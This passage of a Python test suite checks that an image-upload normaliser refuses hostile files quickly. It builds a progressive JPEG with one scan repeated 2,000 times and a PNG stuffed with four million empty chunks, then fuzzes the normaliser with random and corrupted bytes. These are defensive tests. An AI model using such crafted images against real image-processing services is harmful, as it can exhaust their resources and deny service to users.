) -> None:
    # given a small progressive JPEG whose cheapest scan was repeated 2,000 times (each one costs a full pass)
    data = encode(quadrants((256, 256)), "JPEG", progressive=True)
    starts = [at for at in range(len(data) - 1) if data[at : at + 2] == b"\xff\xda"]
    scans = [data[a:b] for a, b in zip(starts, [*starts[1:], len(data) - 2], strict=True)]
    upload = data[:-2] + min(scans, key=len) * 2000 + b"\xff\xd9"
    started = time.perf_counter()
    # when
    refused = refusal(upload)
    # then
    assert refused.code == RefusalCode.TRUNCATED
    assert "progressive scans" in refused.message
    assert decode_calls == []
    assert time.perf_counter() - started < TWO_SECONDS


def test_too_many_pixels_message_gives_the_size_and_the_limit() -> None:
    # when
    refused = refusal(png_from_parts(width=2000, height=1000, raw_rows=b""), max_pixels=1_000_000)
    # then
    assert refused.message.startswith("The image is 2000 x 1000 pixels, more than the 1,000,000 pixels")


def test_png_with_absurd_chunk_count_is_refused_quickly() -> None:
    # given a PNG padded with four million empty private chunks
    data = png_from_parts(width=1, height=1, raw_rows=b"\x00\x00\x00\x00")
    upload = data[:33] + png_chunk(b"prVt", b"") * 4_000_000 + data[33:]
    started = time.perf_counter()
    # when
    refused = refusal(upload, max_bytes=len(upload))
    # then
    assert refused.code == RefusalCode.TRUNCATED
    assert time.perf_counter() - started < TWO_SECONDS


# --- no file, however hostile, gets anything but a result or a refusal --------------------------------------

SEEDS = [
    encode(quadrants((8, 8)), "PNG"),
    encode(quadrants((8, 8)), "JPEG"),
    encode(quadrants((8, 8)), "TIFF"),
    encode(quadrants((8, 8)), "TIFF", compression="tiff_deflate"),
    jpeg_with_orientation(6),
]
MAGICS = [b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"II*\x00", b"MM\x00*", b"II+\x00"]


def overwrite(seed: bytes, at: int, patch: bytes) -> bytes:
    at %= len(seed)
    return seed[:at] + patch + seed[at + len(patch):]


uploads = st.one_of(
    st.binary(max_size=4096),
    st.builds(lambda magic, tail: magic + tail, st.sampled_from(MAGICS), st.binary(max_size=4096)),
    st.builds(overwrite, st.sampled_from(SEEDS), st.integers(0, 10_000), st.binary(min_size=1, max_size=8)),
    st.builds(lambda seed, cut: seed[: cut % len(seed)], st.sampled_from(SEEDS), st.integers(0, 10_000)),
)


@pytest.mark.filterwarnings("ignore::UserWarning:PIL.TiffImagePlugin")
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(upload=uploads)
def test_any_bytes_give_normalised_artwork_or_a_refusal_and_nothing_else(upload: bytes) -> None:
    # when
    try:
        outcome: object = normalise_artwork(upload, max_pixels=1_000_000)
    except ArtworkRefused as refused:
        outcome = refused
    # then
    if isinstance(outcome, ArtworkRefused):
        assert outcome.code in set(RefusalCode)
        assert outcome.message
    else:
        assert isinstance(outcome, NormalisedArtwork)
        assert outcome.mode in ("RGB", "RGBA")
        assert outcome.sha256 == hashlib.sha256(outcome.data).hexdigest()
